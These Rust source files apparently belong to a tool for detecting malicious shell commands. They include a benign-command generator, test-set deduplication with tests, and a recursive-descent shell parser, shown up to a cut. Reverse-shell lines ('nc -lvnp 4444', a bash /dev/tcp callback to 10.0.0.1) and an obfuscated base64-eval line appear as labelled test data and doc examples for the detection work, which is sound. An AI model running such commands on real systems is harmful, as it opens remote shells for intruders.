    pool.choose(rng).expect("non-empty pool")
}

fn path<R: Rng + ?Sized>(rng: &mut R) -> String {
    if rng.gen_bool(0.5) {
        format!("{}/{}", pick(rng, DIRS), pick(rng, FILES))
    } else {
        pick(rng, DIRS).to_string()
    }
}

fn file_path<R: Rng + ?Sized>(rng: &mut R) -> String {
    if rng.gen_bool(0.3) {
        pick(rng, FILES).to_string()
    } else {
        format!("{}/{}", pick(rng, DIRS), pick(rng, FILES))
    }
}

fn url<R: Rng + ?Sized>(rng: &mut R) -> String {
    let scheme = if rng.gen_bool(0.8) { "https" } else { "http" };
    format!("{scheme}://{}/{}", pick(rng, HOSTS), pick(rng, FILES))
}

/// Generates one benign command line per call, Zipf-weighted over a
/// catalog of everyday cloud-operations commands.
#[derive(Debug, Clone)]
pub struct BenignGenerator {
    sampler: ZipfSampler,
    pipeline_prob: f64,
}

/// Number of distinct command templates in the catalog.
pub const TEMPLATE_COUNT: usize = 30;

impl Default for BenignGenerator {
    fn default() -> Self {
        Self::new()
    }
}

impl BenignGenerator {
    /// Creates a generator with the default Figure-2-like skew.
    pub fn new() -> Self {
        BenignGenerator {
            sampler: ZipfSampler::new(TEMPLATE_COUNT, 1.05),
            pipeline_prob: 0.12,
        }
    }

    /// Sets the probability that a generated line is a pipeline of two
    /// templates instead of a single command.
    pub fn pipeline_prob(mut self, p: f64) -> Self {
        self.pipeline_prob = p.clamp(0.0, 1.0);
        self
    }

    /// The command names the catalog can produce, head of the Zipf
    /// distribution first (the paper's Figure 2 occurrence table order).
    pub fn command_names() -> [&'static str; TEMPLATE_COUNT] {
        [
            "cd",
            "echo",
            "chmod",
            "grep",
            "ls",
            "awk",
            "ll",
            "df",
            "ps",
            "cat",
            "rm",
            "docker",
            "vim",
            "python",
            "curl",
            "tar",
            "find",
            "mkdir",
            "cp",
            "mv",
            "git",
            "ssh",
            "kill",
            "head",
            "tail",
            "wc",
            "free",
            "du",
            "systemctl",
            "pip",
        ]
    }

    /// Generates one benign line.
    pub fn generate<R: Rng + ?Sized>(&self, rng: &mut R) -> String {
        if rng.gen_bool(self.pipeline_prob) {
            let idx = self.sampler.sample(rng);
            let left = self.simple(rng, idx);
            // Right side of a pipeline is a filter-ish command.
            let right = match rng.gen_range(0..4) {
                0 => format!("grep {}", pick(rng, PATTERNS)),
                1 => "wc -l".to_string(),
                2 => format!("head -n {}", rng.gen_range(1..50)),
                _ => format!("awk '{{print ${}}}'", rng.gen_range(1..5)),
            };
            format!("{left} | {right}")
        } else {
            let idx = self.sampler.sample(rng);
            self.simple(rng, idx)
        }
    }

    fn simple<R: Rng + ?Sized>(&self, rng: &mut R, idx: usize) -> String {
        match idx {
            0 => format!("cd {}", pick(rng, DIRS)),
            1 => match rng.gen_range(0..3) {
                0 => format!("echo \"deploy {} done\"", rng.gen_range(1..100)),
                1 => "echo $PATH".to_string(),
                _ => format!("echo {} >> {}", rng.gen_range(0..9), file_path(rng)),
            },
            2 => format!(
                "chmod {} {}",
                ["+x", "644", "755", "600"].choose(rng).expect("non-empty"),
                file_path(rng)
            ),
            3 => format!(
                "grep {} {} {}",
                ["-rn", "-i", "-c", "-v"].choose(rng).expect("non-empty"),
                pick(rng, PATTERNS),
                file_path(rng)
            ),
            4 => format!(
                "ls {} {}",
                ["-la", "-lh", "-ltr", "-a"].choose(rng).expect("non-empty"),
                pick(rng, DIRS)
            ),
            5 => format!(
                "awk '{{print ${}}}' {}",
                rng.gen_range(1..6),
                file_path(rng)
            ),
            6 => format!("ll {}", pick(rng, DIRS)),
            7 => "df -h".to_string(),
            8 => format!(
                "ps {}",
                ["aux", "-ef", "-u root"].choose(rng).expect("non-empty")
            ),
            9 => format!("cat {}", file_path(rng)),
            10 => format!(
                "rm {} {}",
                ["-f", "-rf", "-r"].choose(rng).expect("non-empty"),
                path(rng)
            ),
            11 => match rng.gen_range(0..4) {
                0 => "docker ps -a".to_string(),
                1 => format!("docker logs {}", pick(rng, CONTAINERS)),
                2 => format!("docker restart {}", pick(rng, CONTAINERS)),
                _ => format!("docker exec -it {} bash", pick(rng, CONTAINERS)),
            },
            12 => format!("vim {}", file_path(rng)),
            13 => format!(
                "python{} {}",
                ["", "3"].choose(rng).expect("non-empty"),
                [
                    "main.py",
                    "manage.py runserver",
                    "train.py --epochs 10",
                    "-m http.server"
                ]
                .choose(rng)
                .expect("non-empty")
            ),
            14 => match rng.gen_range(0..3) {
                0 => format!("curl -s {}", url(rng)),
                1 => format!("curl -o {} {}", pick(rng, FILES), url(rng)),
                _ => format!("curl -I {}", url(rng)),
            },
            15 => format!(
                "tar {} {} {}",
                ["-xzf", "-czf", "-tf"].choose(rng).expect("non-empty"),
                "backup.tar.gz",
                pick(rng, DIRS)
            ),
            16 => format!(
                "find {} -name \"*.{}\"",
                pick(rng, DIRS),
                ["log", "py", "sh", "txt"].choose(rng).expect("non-empty")
            ),
            17 => format!("mkdir -p {}/new", pick(rng, DIRS)),
            18 => format!("cp {} {}", file_path(rng), pick(rng, DIRS)),
            19 => format!("mv {} {}", file_path(rng), path(rng)),
            20 => [
                "git status",
                "git pull",
                "git log --oneline -5",
                "git diff HEAD~1",
                "git checkout main",
            ]
            .choose(rng)
            .expect("non-empty")
            .to_string(),
            21 => format!("ssh admin@{}", pick(rng, HOSTS)),
            22 => format!("kill -9 {}", rng.gen_range(1000..30000)),
            23 => format!("head -n {} {}", rng.gen_range(5..100), file_path(rng)),
            24 => format!(
                "tail {} {}",
                ["-f", "-n 100", "-n 20"].choose(rng).expect("non-empty"),
                file_path(rng)
            ),
            25 => format!("wc -l {}", file_path(rng)),
            26 => "free -m".to_string(),
            27 => format!("du -sh {}", pick(rng, DIRS)),
            28 => format!(
                "systemctl {} {}",
                ["status", "restart", "start", "stop"]
                    .choose(rng)
                    .expect("non-empty"),
                pick(rng, SERVICES)
            ),
            _ => format!("pip install {}", pick(rng, PACKAGES)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use std::collections::HashMap;

    #[test]
    fn generated_lines_parse() {
        let g = BenignGenerator::new();
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..2_000 {
            let line = g.generate(&mut rng);
            assert!(
                shell_parser::classify(&line).is_valid(),
                "benign line must parse: {line}"
            );
        }
    }

    #[test]
    fn head_commands_dominate() {
        let g = BenignGenerator::new().pipeline_prob(0.0);
        let mut rng = StdRng::seed_from_u64(2);
        let mut counts: HashMap<String, usize> = HashMap::new();
        for _ in 0..20_000 {
            let line = g.generate(&mut rng);
            let name = line.split_whitespace().next().unwrap().to_string();
            *counts.entry(name).or_insert(0) += 1;
        }
        let cd = counts.get("cd").copied().unwrap_or(0);
        let pip = counts.get("pip").copied().unwrap_or(0);
        assert!(cd > pip * 3, "zipf head should dominate: cd={cd} pip={pip}");
    }

    #[test]
    fn catalog_is_diverse() {
        let g = BenignGenerator::new();
        let mut rng = StdRng::seed_from_u64(3);
        let mut names = std::collections::HashSet::new();
        for _ in 0..20_000 {
            let line = g.generate(&mut rng);
            names.insert(line.split_whitespace().next().unwrap().to_string());
        }
        assert!(names.len() >= 25, "only {} distinct commands", names.len());
    }

    #[test]
    fn pipelines_appear_at_configured_rate() {
        let g = BenignGenerator::new().pipeline_prob(0.5);
        let mut rng = StdRng::seed_from_u64(4);
        let piped = (0..2_000)
            .filter(|_| g.generate(&mut rng).contains('|'))
            .count();
        assert!((700..1300).contains(&piped), "pipe count {piped}");
    }

    #[test]
    fn deterministic_under_seed() {
        let g = BenignGenerator::new();
        let a: Vec<String> = {
            let mut rng = StdRng::seed_from_u64(9);
            (0..50).map(|_| g.generate(&mut rng)).collect()
        };
        let b: Vec<String> = {
            let mut rng = StdRng::seed_from_u64(9);
            (0..50).map(|_| g.generate(&mut rng)).collect()
        };
        assert_eq!(a, b);
    }
}
