//! Test-set de-duplication.
//!
//! The paper: "Since there exist many duplicate samples in the test set,
//! … we de-duplicate the test set before calculating the concerned
//! metrics to avoid focusing only on common threats in evaluation."

use crate::dataset::LogRecord;
use std::collections::HashSet;

/// Keeps the first occurrence of each distinct command line.
pub fn dedup_records(records: &[LogRecord]) -> Vec<LogRecord> {
    let mut seen: HashSet<&str> = HashSet::with_capacity(records.len());
    let mut out = Vec::new();
    for r in records {
        if seen.insert(r.line.as_str()) {
            out.push(r.clone());
        }
    }
    out
}

/// De-duplicates by a caller-supplied key — used for the multi-line test
/// set, where the paper notes the de-duplicated sample count differs from
/// the single-line set (context windows differ even when the last line
/// repeats).
pub fn dedup_window_records<K: std::hash::Hash + Eq>(
    records: &[LogRecord],
    mut key: impl FnMut(&LogRecord) -> K,
) -> Vec<LogRecord> {
    let mut seen: HashSet<K> = HashSet::with_capacity(records.len());
    let mut out = Vec::new();
    for r in records {
        if seen.insert(key(r)) {
            out.push(r.clone());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::GroundTruth;

    fn rec(user: u32, t: u64, line: &str) -> LogRecord {
        LogRecord {
            user,
            timestamp: t,
            line: line.to_string(),
            truth: GroundTruth::Benign,
        }
    }

    #[test]
    fn keeps_first_occurrence() {
        let records = vec![rec(1, 10, "ls"), rec(2, 20, "ls"), rec(1, 30, "pwd")];
        let out = dedup_records(&records);
        assert_eq!(out.len(), 2);
        assert_eq!(out[0].timestamp, 10);
        assert_eq!(out[1].line, "pwd");
    }

    #[test]
    fn empty_input_ok() {
        assert!(dedup_records(&[]).is_empty());
    }

    #[test]
    fn no_duplicates_is_identity() {
        let records = vec![rec(1, 1, "a"), rec(1, 2, "b")];
        assert_eq!(dedup_records(&records).len(), 2);
    }

    #[test]
    fn obfuscated_variants_are_not_deduped_against_plain_forms() {
        use crate::attacks::{AttackFamily, Variant};

        // An obfuscated attack differs byte-wise from its plain form even
        // when it resolves to the same command, so exact-line dedup must
        // keep both — collapsing them would erase the obfuscated
        // families from the de-duplicated test set.
        let plain = "nc -lvnp 4444";
        let spliced = "n'c' -l'v'np 4444";
        let expanded = "${x:-n}c -lvnp 4444";
        let mk = |line: &str, family, variant| LogRecord {
            user: 1,
            timestamp: 0,
            line: line.to_string(),
            truth: GroundTruth::Malicious { family, variant },
        };
        let records = vec![
            mk(plain, AttackFamily::ReverseShell, Variant::InBox),
            mk(spliced, AttackFamily::QuotingObfuscation, Variant::InBox),
            mk(
                expanded,
                AttackFamily::QuotingObfuscation,
                Variant::OutOfBox,
            ),
            mk(plain, AttackFamily::ReverseShell, Variant::InBox), // true dup
        ];
        let out = dedup_records(&records);
        assert_eq!(out.len(), 3, "only the byte-identical repeat collapses");
        assert_eq!(out[0].line, plain);
        assert_eq!(out[1].line, spliced);
        assert_eq!(out[2].line, expanded);
    }

    #[test]
    fn dedup_preserves_ground_truth_labels() {
        use crate::attacks::{AttackFamily, Variant};

        let records = vec![
            LogRecord {
                user: 9,
                timestamp: 5,
                line: "eval $(echo QUJD= | base64 -d)".into(),
                truth: GroundTruth::Malicious {
                    family: AttackFamily::ObfuscatedDecode,
                    variant: Variant::OutOfBox,
                },
            },
            LogRecord {
                user: 9,
                timestamp: 6,
                line: "ls -la".into(),
                truth: GroundTruth::Benign,
            },
        ];
        let out = dedup_records(&records);
        assert_eq!(out.len(), 2);
        assert_eq!(
            out[0].truth,
            GroundTruth::Malicious {
                family: AttackFamily::ObfuscatedDecode,
                variant: Variant::OutOfBox,
            }
        );
        assert_eq!(out[1].truth, GroundTruth::Benign);
    }

    #[test]
    fn window_dedup_uses_custom_key() {
        let records = vec![rec(1, 1, "ls"), rec(2, 2, "ls"), rec(1, 3, "ls")];
        // Key by (user, line): user 1's second `ls` is a duplicate, but
        // user 2's is kept.
        let out = dedup_window_records(&records, |r| (r.user, r.line.clone()));
        assert_eq!(out.len(), 2);
    }
}
