//! The command layer: a recursive-descent parser from [`Token`]s to a
//! [`Script`].
//!
//! And-or lists and pipelines are parsed by precedence climbing
//! (`&&`/`||` bind looser than `|`/`|&`); compound commands
//! (`for`/`while`/`until`/`if`/`case`, function definitions, subshells,
//! brace groups) dispatch on reserved words at command position; and two
//! post-passes run at the outermost scope: here-document bodies are
//! assigned FIFO to their redirects, and captured substitution bodies
//! are recursively parsed (depth-budgeted) into nested [`Script`]s.

use crate::ast::{
    AndOrList, Assignment, CaseArm, CaseClause, Command, Connector, ForClause, FunctionDef,
    IfClause, LoopClause, Pipeline, Redirect, RedirectOp, Script, SimpleCommand,
};
use crate::error::ParseError;
use crate::lexer::Lexer;
use crate::token::{Operator, Quoting, Token, Word};
use crate::word::{Substitution, WordUnit};
use std::collections::VecDeque;

/// Maximum nesting depth for recursively parsed substitution bodies.
/// Beyond it the body text is kept but its `script` stays `None`.
const MAX_SUBST_DEPTH: usize = 12;

/// Precedence of `&&` / `||` (loosest binary level).
const PREC_AND_OR: u8 = 1;
/// Precedence of `|` / `|&` (binds tighter than the and-or level).
const PREC_PIPE: u8 = 2;

/// Parses a command line into a [`Script`].
///
/// This is the crate's main entry point.
///
/// ```
/// use shell_parser::parse;
/// let script = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")?;
/// assert_eq!(script.command_names(), vec!["bash"]);
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
///
/// # Errors
///
/// Returns [`ParseError`] for lines Bash could not execute: lex-level
/// failures (unterminated quotes), dangling redirections, misplaced
/// operators or reserved words, unbalanced groups, or an empty line.
pub fn parse(input: &str) -> Result<Script, ParseError> {
    let tokens = Lexer::tokenize(input)?;
    Parser::new(tokens).parse_script()
}

/// Reserved words that are hard errors at command position unless their
/// opening construct is active (`then` with no `if`, `done` with no
/// loop, …).
const DANGLING_KEYWORDS: &[&str] = &["then", "else", "elif", "fi", "do", "done", "esac"];

/// What ends the current list context: a closing operator (subshell
/// `)`, case-arm `;;`) and/or a reserved word (`done`, `fi`, `esac`…).
#[derive(Clone, Copy)]
struct Stop {
    ops: &'static [Operator],
    keywords: &'static [&'static str],
    allow_empty: bool,
}

impl Stop {
    const NONE: Stop = Stop {
        ops: &[],
        keywords: &[],
        allow_empty: false,
    };

    const fn kw(keywords: &'static [&'static str]) -> Stop {
        Stop {
            ops: &[],
            keywords,
            allow_empty: false,
        }
    }

    fn matches(&self, tok: &Token) -> bool {
        match tok {
            Token::Op(op) => self.ops.contains(op),
            Token::Word(w) => {
                w.quoting == Quoting::None && self.keywords.contains(&w.text.as_str())
            }
            _ => false,
        }
    }
}

/// Token-stream parser. Construct with [`Parser::new`], consume with
/// [`Parser::parse_script`].
#[derive(Debug)]
pub struct Parser {
    tokens: Vec<Token>,
    pos: usize,
    /// Here-document bodies in source order, pulled out of the token
    /// stream up front and assigned to their redirects after the parse.
    heredoc_bodies: VecDeque<String>,
    /// Substitution nesting depth of this parser instance.
    depth: usize,
}

impl Parser {
    /// Creates a parser over a token stream.
    pub fn new(tokens: Vec<Token>) -> Self {
        Parser::with_depth(tokens, 0)
    }

    fn with_depth(tokens: Vec<Token>, depth: usize) -> Self {
        let mut heredoc_bodies = VecDeque::new();
        let tokens: Vec<Token> = tokens
            .into_iter()
            .filter_map(|t| match t {
                Token::HeredocBody(b) => {
                    heredoc_bodies.push_back(b);
                    None
                }
                t => Some(t),
            })
            .collect();
        Parser {
            tokens,
            pos: 0,
            heredoc_bodies,
            depth,
        }
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.pos)
    }

    fn peek_op(&self) -> Option<Operator> {
        self.peek().and_then(|t| t.as_op())
    }

    fn peek_keyword(&self, kw: &str) -> bool {
        matches!(
            self.peek(),
            Some(Token::Word(w)) if w.quoting == Quoting::None && w.text == kw
        )
    }

    fn bump(&mut self) -> Option<Token> {
        let t = self.tokens.get(self.pos).cloned();
        if t.is_some() {
            self.pos += 1;
        }
        t
    }

    fn skip_newlines(&mut self) {
        while matches!(self.peek(), Some(Token::Newline)) {
            self.pos += 1;
        }
    }

    /// Parses the whole token stream as a script, then runs the
    /// post-passes (here-doc body assignment, substitution parsing).
    ///
    /// # Errors
    ///
    /// See [`parse`].
    pub fn parse_script(&mut self) -> Result<Script, ParseError> {
        let mut script = self.parse_script_until(Stop::NONE)?;
        if let Some(tok) = self.peek() {
            // A leftover `)` means an unbalanced group.
            if tok.as_op() == Some(Operator::RParen) {
                return Err(ParseError::UnbalancedGroup { delimiter: ')' });
            }
            return Err(ParseError::UnexpectedOperator {
                operator: tok.to_string(),
            });
        }
        let mut bodies = std::mem::take(&mut self.heredoc_bodies);
        assign_heredocs_script(&mut script, &mut bodies);
        fill_subst_script(&mut script, self.depth);
        Ok(script)
    }

    /// Parses lists until the stop condition or end of input.
    fn parse_script_until(&mut self, stop: Stop) -> Result<Script, ParseError> {
        let mut lists = Vec::new();
        loop {
            // Skip separators between lists: newlines freely, `;` only
            // after a list has been produced.
            loop {
                match self.peek() {
                    Some(Token::Newline) => {
                        self.bump();
                    }
                    Some(Token::Op(Operator::Semi)) => {
                        if lists.is_empty() {
                            return Err(ParseError::UnexpectedOperator {
                                operator: ";".into(),
                            });
                        }
                        self.bump();
                    }
                    _ => break,
                }
            }
            match self.peek() {
                None => break,
                Some(tok) if stop.matches(tok) => break,
                // A closing keyword for some *other* construct (e.g. `fi`
                // while we are looking for `then`) also ends this
                // sub-script; the caller's expect_keyword then reports
                // which keyword was actually missing.
                Some(Token::Word(w))
                    if !stop.keywords.is_empty()
                        && w.quoting == Quoting::None
                        && DANGLING_KEYWORDS.contains(&w.text.as_str()) =>
                {
                    break
                }
                _ => {}
            }
            let mut list = self.parse_and_or()?;
            // Separator / background marker after the list.
            match self.peek_op() {
                Some(Operator::Semi) => {
                    self.bump();
                }
                Some(Operator::Amp) => {
                    list.background = true;
                    self.bump();
                }
                _ => {}
            }
            lists.push(list);
            match self.peek() {
                None => break,
                Some(tok) if stop.matches(tok) => break,
                Some(Token::Newline) => {}
                Some(Token::Op(Operator::Semi)) | Some(Token::Op(Operator::Amp)) => {}
                Some(Token::Word(_)) | Some(Token::IoNumber(_)) => {}
                Some(Token::Op(Operator::RParen)) => {
                    return Err(ParseError::UnbalancedGroup { delimiter: ')' })
                }
                Some(tok) => {
                    return Err(ParseError::UnexpectedOperator {
                        operator: tok.to_string(),
                    })
                }
            }
        }
        if lists.is_empty() && !stop.allow_empty {
            return Err(ParseError::Empty);
        }
        Ok(Script { lists })
    }

    /// Like [`Parser::parse_script_until`], but an empty body is an
    /// error anchored at the token that ended it (`if x; then fi` →
    /// misplaced `fi`).
    fn parse_nonempty_until(&mut self, stop: Stop) -> Result<Script, ParseError> {
        let script = self.parse_script_until(Stop {
            allow_empty: true,
            ..stop
        })?;
        if script.lists.is_empty() {
            return Err(match self.peek() {
                Some(Token::Word(w)) => ParseError::MisplacedKeyword {
                    keyword: w.text.clone(),
                },
                Some(tok) => ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                },
                None => ParseError::UnexpectedEnd,
            });
        }
        Ok(script)
    }

    fn parse_and_or(&mut self) -> Result<AndOrList, ParseError> {
        self.parse_binary(PREC_AND_OR)
    }

    /// Precedence climbing over the binary command operators. `&&`/`||`
    /// (prec 1) bind looser than `|`/`|&` (prec 2); both are
    /// left-associative. The accumulator keeps the [`AndOrList`] shape
    /// directly: a pipe extends the last pipeline, a connector starts a
    /// new one.
    fn parse_binary(&mut self, min_prec: u8) -> Result<AndOrList, ParseError> {
        let mut negated = false;
        // `!` negates a whole pipeline, so it can only open one
        // (never appear right of a `|`).
        if min_prec <= PREC_PIPE {
            if let Some(Token::Word(w)) = self.peek() {
                if w.text == "!" && w.quoting == Quoting::None {
                    negated = true;
                    self.bump();
                }
            }
        }
        let cmd = self.parse_command()?;
        let mut acc = AndOrList {
            first: Pipeline {
                negated,
                commands: vec![cmd],
            },
            rest: Vec::new(),
            background: false,
        };
        loop {
            let (prec, op) = match self.peek_op() {
                Some(op @ (Operator::Pipe | Operator::PipeAmp)) => (PREC_PIPE, op),
                Some(op @ Operator::AndIf) => (PREC_AND_OR, op),
                Some(op @ Operator::OrIf) => (PREC_AND_OR, op),
                _ => break,
            };
            if prec < min_prec {
                break;
            }
            self.bump();
            let rhs = self.parse_binary(prec + 1)?;
            match op {
                Operator::Pipe | Operator::PipeAmp => {
                    // rhs parsed above the pipe level: exactly one
                    // command, no connectors — extend the open pipeline.
                    let last = match acc.rest.last_mut() {
                        Some((_, p)) => p,
                        None => &mut acc.first,
                    };
                    last.commands.extend(rhs.first.commands);
                }
                Operator::AndIf => acc.rest.push((Connector::AndIf, rhs.first)),
                Operator::OrIf => acc.rest.push((Connector::OrIf, rhs.first)),
                _ => unreachable!("only binary operators reach here"),
            }
        }
        Ok(acc)
    }

    fn parse_command(&mut self) -> Result<Command, ParseError> {
        match self.peek() {
            Some(Token::Op(Operator::LParen)) => {
                self.bump();
                let inner = self.parse_script_until(Stop {
                    ops: &[Operator::RParen],
                    keywords: &[],
                    allow_empty: false,
                })?;
                match self.peek_op() {
                    Some(Operator::RParen) => {
                        self.bump();
                        Ok(Command::Subshell(Box::new(inner)))
                    }
                    _ => Err(ParseError::UnclosedGroup { delimiter: '(' }),
                }
            }
            Some(Token::Word(w)) if w.quoting == Quoting::None => match w.text.as_str() {
                "{" => self.parse_brace_group(),
                "for" => self.parse_for(),
                "while" => self.parse_loop(false),
                "until" => self.parse_loop(true),
                "if" => self.parse_if(),
                "case" => self.parse_case(),
                "function" => self.parse_function_keyword(),
                kw if DANGLING_KEYWORDS.contains(&kw) => Err(ParseError::MisplacedKeyword {
                    keyword: kw.to_string(),
                }),
                _ if self.looks_like_function_def() => self.parse_posix_function(),
                _ => self.parse_simple_command().map(Command::Simple),
            },
            _ => self.parse_simple_command().map(Command::Simple),
        }
    }

    /// `NAME ( )` ahead: the POSIX function-definition form.
    fn looks_like_function_def(&self) -> bool {
        matches!(
            self.tokens.get(self.pos + 1),
            Some(Token::Op(Operator::LParen))
        ) && matches!(
            self.tokens.get(self.pos + 2),
            Some(Token::Op(Operator::RParen))
        )
    }

    fn parse_posix_function(&mut self) -> Result<Command, ParseError> {
        let Some(Token::Word(name)) = self.bump() else {
            unreachable!("caller peeked a word")
        };
        self.bump(); // `(`
        self.bump(); // `)`
        self.skip_newlines();
        let body = self.parse_command()?;
        Ok(Command::FunctionDef(Box::new(FunctionDef { name, body })))
    }

    fn parse_function_keyword(&mut self) -> Result<Command, ParseError> {
        self.bump(); // `function`
        let name = match self.bump() {
            Some(Token::Word(w)) => w,
            Some(tok) => {
                return Err(ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                })
            }
            None => return Err(ParseError::UnexpectedEnd),
        };
        // Optional `()` after the name.
        if self.looks_like_parens_here() {
            self.bump();
            self.bump();
        }
        self.skip_newlines();
        let body = self.parse_command()?;
        Ok(Command::FunctionDef(Box::new(FunctionDef { name, body })))
    }

    fn looks_like_parens_here(&self) -> bool {
        matches!(self.peek(), Some(Token::Op(Operator::LParen)))
            && matches!(
                self.tokens.get(self.pos + 1),
                Some(Token::Op(Operator::RParen))
            )
    }

    fn expect_keyword(&mut self, kw: &'static str) -> Result<(), ParseError> {
        if self.peek_keyword(kw) {
            self.bump();
            Ok(())
        } else {
            Err(ParseError::MissingKeyword {
                keyword: kw.to_string(),
            })
        }
    }

    fn expect_word(&mut self) -> Result<Word, ParseError> {
        match self.peek() {
            Some(Token::Word(_)) => {
                let Some(Token::Word(w)) = self.bump() else {
                    unreachable!("peeked a word")
                };
                Ok(w)
            }
            Some(tok) => Err(ParseError::UnexpectedOperator {
                operator: tok.to_string(),
            }),
            None => Err(ParseError::UnexpectedEnd),
        }
    }

    /// `for NAME [in word…] <sep> do LIST done`
    fn parse_for(&mut self) -> Result<Command, ParseError> {
        self.bump(); // `for`
        let var = self.expect_word()?;
        let mut words = None;
        if self.peek_keyword("in") {
            self.bump();
            let mut list = Vec::new();
            while let Some(Token::Word(_)) = self.peek() {
                let Some(Token::Word(w)) = self.bump() else {
                    unreachable!("peeked a word")
                };
                list.push(w);
            }
            words = Some(list);
        }
        // Separator(s) before `do`.
        while matches!(
            self.peek(),
            Some(Token::Newline) | Some(Token::Op(Operator::Semi))
        ) {
            self.bump();
        }
        self.expect_keyword("do")?;
        let body = self.parse_nonempty_until(Stop::kw(&["done"]))?;
        self.expect_keyword("done")?;
        Ok(Command::For(Box::new(ForClause { var, words, body })))
    }

    /// `while LIST do LIST done` / `until LIST do LIST done`
    fn parse_loop(&mut self, until: bool) -> Result<Command, ParseError> {
        self.bump(); // `while` / `until`
        let condition = self.parse_nonempty_until(Stop::kw(&["do"]))?;
        self.expect_keyword("do")?;
        let body = self.parse_nonempty_until(Stop::kw(&["done"]))?;
        self.expect_keyword("done")?;
        Ok(Command::While(Box::new(LoopClause {
            until,
            condition,
            body,
        })))
    }

    /// `if LIST then LIST (elif LIST then LIST)* [else LIST] fi`
    fn parse_if(&mut self) -> Result<Command, ParseError> {
        self.bump(); // `if`
        let mut branches = Vec::new();
        let cond = self.parse_nonempty_until(Stop::kw(&["then"]))?;
        self.expect_keyword("then")?;
        let body = self.parse_nonempty_until(Stop::kw(&["elif", "else", "fi"]))?;
        branches.push((cond, body));
        while self.peek_keyword("elif") {
            self.bump();
            let cond = self.parse_nonempty_until(Stop::kw(&["then"]))?;
            self.expect_keyword("then")?;
            let body = self.parse_nonempty_until(Stop::kw(&["elif", "else", "fi"]))?;
            branches.push((cond, body));
        }
        let else_body = if self.peek_keyword("else") {
            self.bump();
            Some(self.parse_nonempty_until(Stop::kw(&["fi"]))?)
        } else {
            None
        };
        self.expect_keyword("fi")?;
        Ok(Command::If(Box::new(IfClause {
            branches,
            else_body,
        })))
    }

    /// `case WORD in ( pattern (| pattern)* ) LIST ;; … esac`
    fn parse_case(&mut self) -> Result<Command, ParseError> {
        self.bump(); // `case`
        let subject = self.expect_word()?;
        self.skip_newlines();
        self.expect_keyword("in")?;
        let mut arms = Vec::new();
        loop {
            self.skip_newlines();
            if self.peek_keyword("esac") {
                self.bump();
                break;
            }
            if self.peek().is_none() {
                return Err(ParseError::MissingKeyword {
                    keyword: "esac".into(),
                });
            }
            if self.peek_op() == Some(Operator::LParen) {
                self.bump();
            }
            let mut patterns = vec![self.expect_word()?];
            while self.peek_op() == Some(Operator::Pipe) {
                self.bump();
                patterns.push(self.expect_word()?);
            }
            match self.peek_op() {
                Some(Operator::RParen) => {
                    self.bump();
                }
                _ => {
                    return Err(match self.peek() {
                        Some(tok) => ParseError::UnexpectedOperator {
                            operator: tok.to_string(),
                        },
                        None => ParseError::UnexpectedEnd,
                    })
                }
            }
            let body = self.parse_script_until(Stop {
                ops: &[Operator::DoubleSemi],
                keywords: &["esac"],
                allow_empty: true,
            })?;
            if self.peek_op() == Some(Operator::DoubleSemi) {
                self.bump();
            }
            arms.push(CaseArm { patterns, body });
        }
        Ok(Command::Case(Box::new(CaseClause { subject, arms })))
    }

    fn parse_brace_group(&mut self) -> Result<Command, ParseError> {
        self.bump(); // consume `{`
                     // Find the matching `}` word at this nesting level by parsing
                     // until we encounter it; the lexer emits `{`/`}` as plain words,
                     // so we scan for the closer and re-parse the inner tokens.
        let start = self.pos;
        let mut depth = 1usize;
        while let Some(tok) = self.tokens.get(self.pos) {
            if let Token::Word(w) = tok {
                if w.quoting == Quoting::None {
                    if w.text == "{" {
                        depth += 1;
                    } else if w.text == "}" {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                }
            }
            self.pos += 1;
        }
        if depth != 0 {
            return Err(ParseError::UnclosedGroup { delimiter: '{' });
        }
        let inner_tokens: Vec<Token> = self.tokens[start..self.pos].to_vec();
        self.pos += 1; // consume `}`
        let inner = Parser::with_depth(inner_tokens, self.depth).parse_script()?;
        Ok(Command::Group(Box::new(inner)))
    }

    fn parse_simple_command(&mut self) -> Result<SimpleCommand, ParseError> {
        let mut cmd = SimpleCommand::default();
        let mut seen_word = false;
        loop {
            match self.peek() {
                Some(Token::Word(_)) => {
                    let Some(Token::Word(w)) = self.bump() else {
                        unreachable!("peeked a word")
                    };
                    // Assignment prefixes may only precede the command name.
                    if !seen_word {
                        if let Some(a) = as_assignment(&w) {
                            cmd.assignments.push(a);
                            continue;
                        }
                    }
                    seen_word = true;
                    cmd.words.push(w);
                }
                Some(Token::IoNumber(_)) => {
                    let Some(Token::IoNumber(fd)) = self.bump() else {
                        unreachable!("peeked an io number")
                    };
                    let op = self.expect_redirect_op()?;
                    let target = self.expect_redirect_target(op)?;
                    cmd.redirects.push(Redirect {
                        fd: Some(fd),
                        op,
                        target,
                        heredoc_body: None,
                    });
                }
                Some(Token::Op(op)) if op.is_redirect() => {
                    let op = *op;
                    self.bump();
                    let rop =
                        RedirectOp::from_operator(op).expect("is_redirect implies conversion");
                    let target = self.expect_redirect_target(rop)?;
                    cmd.redirects.push(Redirect {
                        fd: None,
                        op: rop,
                        target,
                        heredoc_body: None,
                    });
                }
                _ => break,
            }
        }
        if cmd.words.is_empty() && cmd.assignments.is_empty() && cmd.redirects.is_empty() {
            return match self.peek() {
                Some(tok) => Err(ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                }),
                None => Err(ParseError::UnexpectedEnd),
            };
        }
        Ok(cmd)
    }

    fn expect_redirect_op(&mut self) -> Result<RedirectOp, ParseError> {
        match self.peek_op().and_then(RedirectOp::from_operator) {
            Some(op) => {
                self.bump();
                Ok(op)
            }
            None => match self.peek() {
                Some(tok) => Err(ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                }),
                None => Err(ParseError::UnexpectedEnd),
            },
        }
    }

    fn expect_redirect_target(&mut self, op: RedirectOp) -> Result<Word, ParseError> {
        match self.peek() {
            Some(Token::Word(_)) => {
                let Some(Token::Word(w)) = self.bump() else {
                    unreachable!("peeked a word")
                };
                Ok(w)
            }
